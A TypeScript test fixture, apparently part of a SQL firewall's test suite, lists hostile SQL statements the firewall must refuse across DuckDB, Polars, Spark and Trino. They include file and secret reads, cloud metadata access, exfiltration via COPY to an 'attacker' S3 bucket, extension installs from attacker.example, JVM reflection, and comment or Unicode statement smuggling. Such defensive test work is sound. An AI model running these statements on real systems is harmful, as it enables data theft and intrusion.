/**
 * The hostile corpus: statements the SQL firewall must refuse, each with the construct its message
 * must name and the dialects it applies to. The firewall's unit tests replay every entry in every
 * listed dialect; engine tests replay the same entries against the locked-down engines (the second
 * line), so an entry must stand on its own.
 *
 * Catalog the entries assume (see {@link HOSTILE_CATALOG}): catalog `lakeline`, the caller's
 * namespaces `tpch` (the eight TPC-H tables, read-only) and `scratch` (writable), default namespace
 * `tpch`; `other_org.t` exists in the deployment but belongs to another org.
 */
import type { SqlDialect } from '#domain/sql/types';

export interface HostileStatement {
  /** Short unique name, for test titles. */
  id: string;
  /** The statement. */
  sql: string;
  /** Text the refusal message must contain (after `SQL not allowed: `). */
  construct: string;
  /** Dialects in which the statement must be refused with that construct. */
  dialects: readonly SqlDialect[];
}

const ALL: readonly SqlDialect[] = ['duckdb', 'polars', 'spark', 'trino'];
const DUCKDB: readonly SqlDialect[] = ['duckdb'];
const SPARK: readonly SqlDialect[] = ['spark'];
const TRINO: readonly SqlDialect[] = ['trino'];
const POLARS: readonly SqlDialect[] = ['polars'];
const DUCKDB_POLARS: readonly SqlDialect[] = ['duckdb', 'polars'];
const NOT_SPARK: readonly SqlDialect[] = ['duckdb', 'polars', 'trino'];

/** The catalog the corpus assumes. */
export const HOSTILE_CATALOG = {
  catalog: 'lakeline',
  defaultNamespace: 'tpch',
  readable: { tpch: ['customer', 'lineitem', 'nation', 'orders', 'part', 'partsupp', 'region', 'supplier'], scratch: ['t'] },
  writableNamespaces: ['scratch'],
  otherOrgTables: { other_org: ['t'] },
} as const;

export const HOSTILE_CORPUS: readonly HostileStatement[] = [
  // Table functions that read files, URLs, other databases, SQL text or engine metadata.
  { id: 'read_csv', sql: "SELECT * FROM read_csv('/etc/passwd')", construct: 'table function read_csv', dialects: ALL },
  { id: 'read_csv_auto', sql: "SELECT * FROM read_csv_auto('/etc/passwd')", construct: 'table function read_csv_auto', dialects: DUCKDB_POLARS },
  { id: 'read_parquet', sql: "SELECT * FROM read_parquet('s3://warehouse/other_org/t/data/*.parquet')", construct: 'table function read_parquet', dialects: ALL },
  { id: 'read_json', sql: "SELECT * FROM read_json('/etc/hosts')", construct: 'table function read_json', dialects: ALL },
  { id: 'read_ipc', sql: "SELECT * FROM read_ipc('/tmp/x.arrow')", construct: 'table function read_ipc', dialects: ALL },
  { id: 'read_text', sql: "SELECT content FROM read_text('/etc/passwd')", construct: 'table function read_text', dialects: DUCKDB },
  { id: 'read_blob', sql: "SELECT * FROM read_blob('/etc/shadow')", construct: 'table function read_blob', dialects: DUCKDB },
  { id: 'parquet_scan', sql: "SELECT * FROM parquet_scan('/warehouse/other_org/*.parquet')", construct: 'table function parquet_scan', dialects: DUCKDB_POLARS },
  { id: 'iceberg_scan', sql: "SELECT * FROM iceberg_scan('s3://warehouse/other_org/t')", construct: 'table function iceberg_scan', dialects: ALL },
  { id: 'glob', sql: "SELECT * FROM glob('/home/*')", construct: 'table function glob', dialects: DUCKDB },
  { id: 'sniff_csv', sql: "SELECT * FROM sniff_csv('/etc/passwd')", construct: 'table function sniff_csv', dialects: DUCKDB },
  { id: 'query', sql: "SELECT * FROM query('SELECT * FROM other_org.t')", construct: 'table function query', dialects: DUCKDB },
  { id: 'query_table', sql: "SELECT * FROM query_table('other_org.t')", construct: 'table function query_table', dialects: DUCKDB },
  { id: 'duckdb_settings', sql: 'SELECT * FROM duckdb_settings()', construct: 'table function duckdb_settings', dialects: DUCKDB },
  { id: 'duckdb_secrets', sql: 'SELECT name, secret_string FROM duckdb_secrets()', construct: 'table function duckdb_secrets', dialects: DUCKDB },
  { id: 'sqlite_scan', sql: "SELECT * FROM sqlite_scan('/tmp/x.db', 't')", construct: 'table function sqlite_scan', dialects: DUCKDB },
  { id: 'postgres_scan', sql: "SELECT * FROM postgres_scan('host=10.0.0.1', 'public', 't')", construct: 'table function postgres_scan', dialects: DUCKDB },
  { id: 'json_execute_serialized_sql', sql: "SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT 1'))", construct: 'table function json_execute_serialized_sql', dialects: DUCKDB },
  // Qualified function names: Trino and Spark have no method syntax, so `a.b(...)` names a function
  // in a catalog or schema (Spark's persistent functions, Trino's SQL routines), not a built-in.
  { id: 'catalog-qualified function', sql: 'SELECT lakeline.system.bucket(16, n_nationkey) FROM tpch.nation', construct: 'qualified function lakeline.system.bucket', dialects: ['spark', 'trino'] },
  { id: 'schema-qualified function', sql: 'SELECT system.bucket(16, 1)', construct: 'qualified function system.bucket', dialects: ['spark', 'trino'] },
  { id: 'routine in own namespace', sql: 'SELECT tpch.f(n_name) FROM tpch.nation', construct: 'qualified function tpch.f', dialects: ['spark', 'trino'] },
  { id: 'qualified denied function', sql: "SELECT system.read_file('/etc/passwd')", construct: 'read_file', dialects: ['spark', 'trino'] },
  { id: 'unknown table function', sql: "SELECT * FROM some_reader('/etc/passwd')", construct: 'table function some_reader', dialects: ALL },
  { id: 'spark read_files', sql: "SELECT * FROM read_files('/tmp')", construct: 'table function read_files', dialects: SPARK },
  { id: 'from-first read_csv', sql: "FROM read_csv('/etc/passwd')", construct: 'table function read_csv', dialects: DUCKDB },
  { id: 'read_csv in subquery', sql: "SELECT * FROM tpch.lineitem WHERE l_comment IN (SELECT * FROM read_csv('/etc/passwd'))", construct: 'table function read_csv', dialects: ALL },
  { id: 'read_csv in CTE', sql: "WITH x AS (SELECT * FROM read_csv('/etc/passwd')) SELECT * FROM x", construct: 'table function read_csv', dialects: ALL },
  { id: 'read_csv in join', sql: "SELECT * FROM tpch.nation JOIN read_csv('/etc/passwd') p ON true", construct: 'table function read_csv', dialects: DUCKDB_POLARS },

  // Functions that read the environment, settings or the JVM.
  { id: 'getenv', sql: "SELECT getenv('AWS_SECRET_ACCESS_KEY')", construct: 'function getenv', dialects: ALL },
  { id: 'current_setting', sql: "SELECT current_setting('s3_secret_access_key')", construct: 'function current_setting', dialects: ALL },
  { id: 'pg_read_file', sql: "SELECT pg_read_file('/etc/passwd')", construct: 'function pg_read_file', dialects: ALL },
  { id: 'method-call getenv', sql: "SELECT 'HOME'.getenv()", construct: 'function getenv', dialects: DUCKDB },
  { id: 'quoted getenv', sql: `SELECT "getenv"('HOME')`, construct: 'function getenv', dialects: DUCKDB },
  { id: 'reflect', sql: "SELECT reflect('java.lang.Runtime', 'getRuntime')", construct: 'function reflect', dialects: ALL },
  { id: 'java_method', sql: "SELECT java_method('java.lang.System', 'getenv', 'HOME')", construct: 'function java_method', dialects: ALL },
  { id: 'try_reflect', sql: "SELECT try_reflect('java.lang.System', 'getProperty', 'user.home')", construct: 'function try_reflect', dialects: SPARK },
  { id: 'backticked reflect', sql: "SELECT `reflect`('java.lang.Runtime', 'getRuntime')", construct: 'function reflect', dialects: SPARK },
  { id: 'IDENTIFIER clause', sql: "SELECT * FROM IDENTIFIER('other_org.t')", construct: 'function identifier', dialects: SPARK },

  // Files and URLs written as tables.
  { id: 'string path', sql: "SELECT * FROM '/etc/passwd'", construct: "file path '/etc/passwd' used as a table", dialects: DUCKDB },
  { id: 'parquet file', sql: "SELECT * FROM 'data.parquet'", construct: "file path 'data.parquet' used as a table", dialects: DUCKDB },
  { id: 's3 url', sql: "SELECT * FROM 's3://warehouse/other_org/t/data/x.parquet'", construct: "file path 's3://warehouse/other_org/t/data/x.parquet' used as a table", dialects: DUCKDB },
  { id: 'http url', sql: "SELECT * FROM 'http://169.254.169.254/latest/meta-data/'", construct: "file path 'http://169.254.169.254/latest/meta-data/' used as a table", dialects: DUCKDB },
  { id: 'quoted csv name', sql: 'SELECT * FROM "data.csv"', construct: "file path 'data.csv' used as a table", dialects: NOT_SPARK },
  { id: 'spark parquet path', sql: 'SELECT * FROM parquet.`/warehouse/other_org/t`', construct: "file path '/warehouse/other_org/t' used as a table", dialects: SPARK },
  { id: 'spark csv path', sql: 'SELECT * FROM csv.`/tmp/x`', construct: "file path '/tmp/x' used as a table", dialects: SPARK },
  { id: 'spark json url', sql: 'SELECT * FROM json.`s3://bucket/x`', construct: "file path 's3://bucket/x' used as a table", dialects: SPARK },
  { id: 'spark delta relative', sql: 'SELECT * FROM delta.`x`', construct: 'file query delta.`x`', dialects: SPARK },

  // Statements that change the session, the catalog or the files.
  { id: 'SET', sql: 'SET threads = 1', construct: 'SET', dialects: ALL },
  { id: 'SET external access', sql: 'SET enable_external_access = true', construct: 'SET', dialects: DUCKDB },
  { id: 'SET SESSION', sql: "SET SESSION query_max_run_time = '1h'", construct: 'SET', dialects: TRINO },
  { id: 'SET spark conf', sql: 'SET spark.sql.runSQLOnFiles=true', construct: 'SET', dialects: SPARK },
  { id: 'RESET', sql: 'RESET threads', construct: 'RESET', dialects: ALL },
  { id: 'ATTACH', sql: "ATTACH '/tmp/other.db' AS other", construct: 'ATTACH', dialects: ALL },
  { id: 'DETACH', sql: 'DETACH lakeline', construct: 'DETACH', dialects: ALL },
  { id: 'COPY TO', sql: "COPY tpch.lineitem TO '/tmp/out.csv'", construct: 'COPY', dialects: ALL },
  { id: 'COPY query TO s3', sql: "COPY (SELECT * FROM tpch.lineitem) TO 's3://attacker/x.parquet'", construct: 'COPY', dialects: ALL },
  { id: 'EXPORT DATABASE', sql: "EXPORT DATABASE '/tmp/dump'", construct: 'EXPORT DATABASE', dialects: ALL },
  { id: 'IMPORT DATABASE', sql: "IMPORT DATABASE '/tmp/dump'", construct: 'IMPORT DATABASE', dialects: ALL },
  { id: 'INSTALL', sql: 'INSTALL httpfs', construct: 'INSTALL', dialects: ALL },
  { id: 'FORCE INSTALL', sql: "FORCE INSTALL httpfs FROM 'http://attacker.example'", construct: 'FORCE INSTALL', dialects: DUCKDB },
  { id: 'LOAD', sql: 'LOAD httpfs', construct: 'LOAD', dialects: ALL },
  { id: 'LOAD path', sql: "LOAD '/tmp/evil.duckdb_extension'", construct: 'LOAD', dialects: DUCKDB },
  { id: 'LOAD DATA', sql: "LOAD DATA INPATH '/tmp/x' INTO TABLE scratch.t", construct: 'LOAD', dialects: SPARK },
  { id: 'PRAGMA', sql: 'PRAGMA enable_profiling', construct: 'PRAGMA', dialects: ALL },
  { id: 'CALL', sql: 'CALL pragma_version()', construct: 'CALL', dialects: DUCKDB },
  { id: 'CALL system procedure', sql: "CALL system.sync_partition_metadata('tpch', 'lineitem', 'FULL')", construct: 'CALL', dialects: TRINO },
  { id: 'USE', sql: 'USE other_org', construct: 'USE', dialects: ALL },
  { id: 'CREATE SECRET', sql: "CREATE SECRET s3 (TYPE s3, KEY_ID 'x', SECRET 'y')", construct: 'CREATE SECRET', dialects: DUCKDB },
  { id: 'CREATE PERSISTENT SECRET', sql: "CREATE PERSISTENT SECRET s3 (TYPE s3, KEY_ID 'x', SECRET 'y')", construct: 'CREATE SECRET', dialects: DUCKDB },
  { id: 'CREATE MACRO', sql: 'CREATE MACRO m(a) AS a + 1', construct: 'CREATE MACRO', dialects: DUCKDB },
  { id: 'CREATE FUNCTION', sql: 'CREATE FUNCTION f(a) AS a + 1', construct: 'CREATE FUNCTION', dialects: ALL },
  { id: 'CREATE TEMPORARY FUNCTION', sql: "CREATE TEMPORARY FUNCTION f AS 'com.evil.Udf' USING JAR '/tmp/x.jar'", construct: 'CREATE FUNCTION', dialects: SPARK },
  { id: 'CREATE VIEW', sql: 'CREATE VIEW scratch.v AS SELECT * FROM tpch.lineitem', construct: 'CREATE VIEW', dialects: ALL },
  { id: 'CREATE SCHEMA', sql: 'CREATE SCHEMA other_org', construct: 'CREATE SCHEMA', dialects: ALL },
  { id: 'CREATE TABLE without AS', sql: 'CREATE TABLE scratch.t2 (a INT)', construct: 'CREATE TABLE without AS SELECT', dialects: ['duckdb', 'spark', 'trino'] },
  { id: 'CREATE TEMP TABLE', sql: 'CREATE TEMP TABLE x AS SELECT 1', construct: 'CREATE TEMPORARY TABLE', dialects: ALL },
  { id: 'DROP TABLE', sql: 'DROP TABLE tpch.lineitem', construct: 'DROP TABLE', dialects: ALL },
  { id: 'ALTER TABLE', sql: 'ALTER TABLE tpch.lineitem ADD COLUMN x INT', construct: 'ALTER TABLE', dialects: ALL },
  { id: 'ALTER TABLE EXECUTE', sql: 'ALTER TABLE tpch.lineitem EXECUTE optimize', construct: 'ALTER TABLE', dialects: TRINO },
  { id: 'TRUNCATE', sql: 'TRUNCATE TABLE tpch.lineitem', construct: 'TRUNCATE TABLE', dialects: ALL },
  { id: 'DELETE', sql: 'DELETE FROM tpch.lineitem', construct: 'DELETE', dialects: ALL },
  { id: 'UPDATE', sql: 'UPDATE tpch.lineitem SET l_tax = 0', construct: 'UPDATE', dialects: ALL },
  { id: 'MERGE', sql: 'MERGE INTO scratch.t USING tpch.nation n ON true WHEN MATCHED THEN DELETE', construct: 'MERGE', dialects: ALL },
  { id: 'DESCRIBE', sql: 'DESCRIBE tpch.lineitem', construct: 'DESCRIBE', dialects: ALL },
  { id: 'SHOW TABLES', sql: 'SHOW TABLES', construct: 'SHOW TABLES', dialects: ALL },
  { id: 'EXPLAIN', sql: 'EXPLAIN SELECT * FROM tpch.lineitem', construct: 'EXPLAIN', dialects: ALL },
  { id: 'SUMMARIZE', sql: 'SUMMARIZE tpch.lineitem', construct: 'SUMMARIZE', dialects: DUCKDB },
  { id: 'VACUUM', sql: 'VACUUM', construct: 'VACUUM', dialects: DUCKDB },
  { id: 'CHECKPOINT', sql: 'CHECKPOINT', construct: 'CHECKPOINT', dialects: DUCKDB },
  { id: 'PREPARE', sql: 'PREPARE p AS SELECT * FROM other_org.t', construct: 'PREPARE', dialects: ALL },
  { id: 'EXECUTE IMMEDIATE', sql: "EXECUTE IMMEDIATE 'SELECT * FROM other_org.t'", construct: 'EXECUTE', dialects: ALL },
  { id: 'parenthesized SET', sql: '(SET threads = 1)', construct: 'SET', dialects: ALL },
  { id: 'SELECT INTO', sql: 'SELECT * INTO scratch.t FROM tpch.lineitem', construct: 'SELECT INTO', dialects: DUCKDB },
  { id: 'nested DESCRIBE', sql: 'SELECT * FROM (DESCRIBE tpch.lineitem)', construct: 'DESCRIBE', dialects: DUCKDB },

  // Several statements, and comments or quotes that would hide one.
  { id: 'two statements', sql: 'SELECT 1; DROP TABLE tpch.lineitem', construct: 'multiple statements', dialects: ALL },
  { id: 'semicolon in block comment', sql: 'SELECT 1 /* ; */; DROP TABLE t', construct: 'multiple statements', dialects: ALL },
  { id: 'line comment then statement', sql: 'SELECT 1 -- comment\n; DROP TABLE t', construct: 'multiple statements', dialects: ALL },
  { id: 'nested block comment', sql: 'SELECT 1 /* /* */ ; DROP TABLE t; -- */', construct: 'nested block comment', dialects: ALL },
  { id: 'comment before SET', sql: '/* harmless */ SET threads = 1', construct: 'SET', dialects: ALL },
  { id: 'comment inside call', sql: "SELECT * FROM read_csv/**/('/etc/passwd')", construct: 'table function read_csv', dialects: ALL },
  { id: 'line comment inside call', sql: "SELECT getenv -- hidden?\n('HOME')", construct: 'function getenv', dialects: ALL },
  { id: 'backslash is not an escape', sql: "SELECT 'a\\', getenv('HOME') --'", construct: 'function getenv', dialects: NOT_SPARK },
  { id: 'spark backslash escape', sql: "SELECT 'a\\'', reflect('java.lang.Runtime', 'getRuntime') --'", construct: 'function reflect', dialects: SPARK },
  { id: 'E string escape', sql: "SELECT E'\\'', getenv('HOME') --'", construct: 'function getenv', dialects: DUCKDB },
  { id: 'dollar quote', sql: "SELECT $x$ $$ $x$, getenv('HOME')", construct: 'function getenv', dialects: DUCKDB_POLARS },
  { id: 'spark variable substitution', sql: "SELECT '${env:AWS_SECRET_ACCESS_KEY}'", construct: 'variable substitution', dialects: SPARK },
  { id: 'spark substitution in comment', sql: 'SELECT 1 -- ${spark.hadoop.fs.s3a.secret.key}', construct: 'variable substitution', dialects: SPARK },
  { id: 'unterminated string', sql: "SELECT 'abc", construct: 'unterminated string literal', dialects: ALL },
  { id: 'NUL character', sql: 'SELECT 1\u0000; DROP TABLE t', construct: 'NUL character', dialects: ALL },

  // Case and Unicode tricks.
  { id: 'mixed case reader', sql: "SeLeCt * FrOm ReAd_CsV('/etc/passwd')", construct: 'table function read_csv', dialects: ALL },
  { id: 'upper case getenv', sql: "SELECT GETENV('HOME')", construct: 'function getenv', dialects: ALL },
  { id: 'mixed case SET', sql: 'sEt threads = 1', construct: 'SET', dialects: ALL },
  { id: 'fullwidth semicolon', sql: 'SELECT 1\uff1b DROP TABLE t', construct: 'character U+FF1B outside quotes', dialects: ALL },
  { id: 'no-break space', sql: "SELECT\u00a0getenv('HOME')", construct: 'character U+00A0 outside quotes', dialects: ALL },
  { id: 'zero-width space', sql: 'SELECT * FROM tpch.lineitem\u200b', construct: 'character U+200B outside quotes', dialects: ALL },
  { id: 'right-to-left override', sql: 'SELECT * FROM tpch.lineitem \u202e', construct: 'character U+202E outside quotes', dialects: ALL },
  { id: 'fullwidth reader name', sql: "SELECT * FROM \uff52\uff45\uff41\uff44_csv('/etc/passwd')", construct: 'table function read_csv', dialects: ALL },
  { id: 'cyrillic lookalike table', sql: 'SELECT * FROM tpch.l\u0456neitem', construct: 'table lakeline.tpch.l\u0456neitem is not in your catalog', dialects: ALL },

  // Tables outside the caller's catalog.
  { id: 'other org qualified', sql: 'SELECT * FROM lakeline.other_org.t', construct: 'table lakeline.other_org.t is not in your catalog', dialects: ALL },
  { id: 'other org namespace', sql: 'SELECT * FROM other_org.t', construct: 'table lakeline.other_org.t is not in your catalog', dialects: ALL },
  { id: 'other org quoted', sql: 'SELECT * FROM "other_org"."t"', construct: 'table lakeline.other_org.t is not in your catalog', dialects: NOT_SPARK },
  { id: 'other org backticks', sql: 'SELECT * FROM `other_org`.`t`', construct: 'table lakeline.other_org.t is not in your catalog', dialects: SPARK },
  { id: 'other org upper case', sql: 'SELECT * FROM LAKELINE.OTHER_ORG.T', construct: 'table lakeline.other_org.t is not in your catalog', dialects: ALL },
  { id: 'other org in join', sql: 'SELECT * FROM tpch.nation n JOIN other_org.t o ON true', construct: 'table lakeline.other_org.t is not in your catalog', dialects: ALL },
  { id: 'other org in scalar subquery', sql: 'SELECT (SELECT count(*) FROM other_org.t) AS n', construct: 'table lakeline.other_org.t is not in your catalog', dialects: ALL },
  { id: 'other org in EXISTS', sql: 'SELECT * FROM tpch.nation WHERE EXISTS (SELECT 1 FROM other_org.t)', construct: 'table lakeline.other_org.t is not in your catalog', dialects: ALL },
  { id: 'other org in UNION', sql: 'SELECT n_name FROM tpch.nation UNION ALL SELECT * FROM other_org.t', construct: 'table lakeline.other_org.t is not in your catalog', dialects: ALL },
  { id: 'CTE name does not cover qualified', sql: 'WITH t AS (SELECT 1) SELECT * FROM other_org.t', construct: 'table lakeline.other_org.t is not in your catalog', dialects: ALL },
  { id: 'CTE out of scope', sql: 'SELECT * FROM (WITH secret AS (SELECT 1) SELECT * FROM secret) x, secret', construct: 'table lakeline.tpch.secret is not in your catalog', dialects: ALL },
  { id: 'unknown table', sql: 'SELECT * FROM unregistered', construct: 'table lakeline.tpch.unregistered is not in your catalog', dialects: ALL },
  { id: 'other catalog', sql: 'SELECT * FROM hive.default.t', construct: 'table hive.default.t is not in your catalog', dialects: ALL },
  { id: 'DuckDB memory catalog', sql: 'SELECT * FROM memory.main.t', construct: 'system table memory.main.t', dialects: ALL },
  { id: 'more than three parts', sql: 'SELECT * FROM lakeline.tpch.lineitem.files', construct: 'more than three parts', dialects: ['duckdb', 'polars', 'spark'] },
  { id: 'information_schema', sql: 'SELECT * FROM information_schema.tables', construct: 'system table information_schema.tables', dialects: ALL },
  { id: 'duckdb_tables view', sql: 'SELECT * FROM duckdb_tables', construct: 'system table duckdb_tables', dialects: DUCKDB },
  { id: 'sqlite_master view', sql: 'SELECT * FROM sqlite_master', construct: 'system table sqlite_master', dialects: DUCKDB },
  { id: 'pg_catalog', sql: 'SELECT * FROM pg_catalog.pg_tables', construct: 'system table pg_catalog.pg_tables', dialects: DUCKDB },
  { id: 'trino system table', sql: 'SELECT * FROM system.runtime.nodes', construct: 'system table system.runtime.nodes', dialects: TRINO },
  { id: 'trino metadata catalogs', sql: 'SELECT * FROM system.metadata.catalogs', construct: 'system table system.metadata.catalogs', dialects: TRINO },
  { id: 'iceberg $files table', sql: 'SELECT * FROM lakeline.tpch."lineitem$files"', construct: 'system table lakeline.tpch.lineitem$files', dialects: TRINO },
  { id: 'spark_catalog', sql: 'SELECT * FROM spark_catalog.default.t', construct: 'system table spark_catalog.default.t', dialects: SPARK },
  { id: 'spark global_temp', sql: 'SELECT * FROM global_temp.v', construct: 'system table global_temp.v', dialects: SPARK },

  // Trino table functions.
  { id: 'trino system.query', sql: "SELECT * FROM TABLE(system.query(query => 'SELECT * FROM other_org.t'))", construct: 'table function system.query', dialects: TRINO },
  { id: 'trino exclude_columns', sql: 'SELECT * FROM TABLE(exclude_columns(input => TABLE(tpch.lineitem), columns => DESCRIPTOR(l_comment)))', construct: 'table function exclude_columns', dialects: TRINO },

  // Spark-only constructs.
  { id: 'TRANSFORM USING', sql: "SELECT TRANSFORM(l_comment) USING 'cat /etc/passwd' AS (x) FROM tpch.lineitem", construct: 'TRANSFORM ... USING', dialects: SPARK },
  { id: 'ADD JAR', sql: "ADD JAR '/tmp/evil.jar'", construct: 'ADD JAR', dialects: SPARK },
  { id: 'ADD FILE', sql: 'ADD FILE /etc/passwd', construct: 'ADD FILE', dialects: SPARK },
  { id: 'ADD ARCHIVE', sql: "ADD ARCHIVE '/tmp/x.zip'", construct: 'ADD ARCHIVE', dialects: SPARK },
  { id: 'LIST JAR', sql: 'LIST JAR', construct: 'LIST JAR', dialects: SPARK },
  { id: 'CACHE TABLE', sql: 'CACHE TABLE c AS SELECT * FROM tpch.lineitem', construct: 'CACHE TABLE', dialects: SPARK },
  { id: 'REFRESH TABLE', sql: 'REFRESH TABLE tpch.lineitem', construct: 'REFRESH TABLE', dialects: SPARK },
  { id: 'MSCK REPAIR', sql: 'MSCK REPAIR TABLE tpch.lineitem', construct: 'MSCK REPAIR', dialects: SPARK },
  { id: 'LOCATION', sql: "CREATE TABLE scratch.t2 USING iceberg LOCATION 's3://other-bucket/x' AS SELECT 1 AS a", construct: 'LOCATION', dialects: SPARK },
  { id: 'TBLPROPERTIES', sql: "CREATE TABLE scratch.t2 USING iceberg TBLPROPERTIES ('write.data.path'='s3://other-bucket/') AS SELECT 1 AS a", construct: 'TBLPROPERTIES', dialects: SPARK },
  { id: 'USING parquet', sql: 'CREATE TABLE scratch.t2 USING parquet AS SELECT 1 AS a', construct: 'USING parquet', dialects: SPARK },
  { id: 'INSERT OVERWRITE DIRECTORY', sql: "INSERT OVERWRITE DIRECTORY '/tmp/out' SELECT * FROM tpch.lineitem", construct: 'INSERT OVERWRITE DIRECTORY', dialects: SPARK },
  { id: 'INSERT OVERWRITE LOCAL DIRECTORY', sql: "INSERT OVERWRITE LOCAL DIRECTORY '/tmp/out' SELECT 1", construct: 'INSERT OVERWRITE DIRECTORY', dialects: SPARK },

  // Trino CTAS properties.
  { id: 'trino location property', sql: "CREATE TABLE scratch.t2 WITH (location = 's3://other-bucket/') AS SELECT 1 AS a", construct: 'table property location', dialects: TRINO },

  // Writes outside the caller's own targets.
  { id: 'INSERT into other org', sql: 'INSERT INTO other_org.t SELECT 1', construct: 'target table lakeline.other_org.t is not in your catalog', dialects: ['duckdb', 'spark', 'trino'] },
  { id: 'CTAS into read-only namespace', sql: 'CREATE TABLE tpch.copy AS SELECT * FROM tpch.lineitem', construct: 'target table lakeline.tpch.copy is not in your catalog', dialects: ['duckdb', 'spark', 'trino'] },
  { id: 'CTAS into other catalog', sql: 'CREATE TABLE hive.scratch.t2 AS SELECT 1 AS a', construct: 'target table hive.scratch.t2 is not in your catalog', dialects: ['duckdb', 'spark', 'trino'] },
  { id: 'CTAS reading other org', sql: 'CREATE TABLE scratch.t2 AS SELECT * FROM other_org.t', construct: 'table lakeline.other_org.t is not in your catalog', dialects: ['duckdb', 'spark', 'trino'] },
  { id: 'CTAS reading a file', sql: "CREATE TABLE scratch.t2 AS SELECT * FROM read_parquet('/etc/x.parquet')", construct: 'table function read_parquet', dialects: ALL },
  { id: 'INSERT ON CONFLICT', sql: 'INSERT INTO scratch.t SELECT 1 ON CONFLICT DO NOTHING', construct: 'INSERT ... ON CONFLICT', dialects: DUCKDB },
  { id: 'INSERT OR REPLACE', sql: 'INSERT OR REPLACE INTO scratch.t SELECT 1', construct: 'INSERT OR REPLACE', dialects: DUCKDB },
  { id: 'polars CTAS', sql: 'CREATE TABLE scratch.t2 AS SELECT 1 AS a', construct: 'CREATE TABLE AS in polars SQL', dialects: POLARS },
];
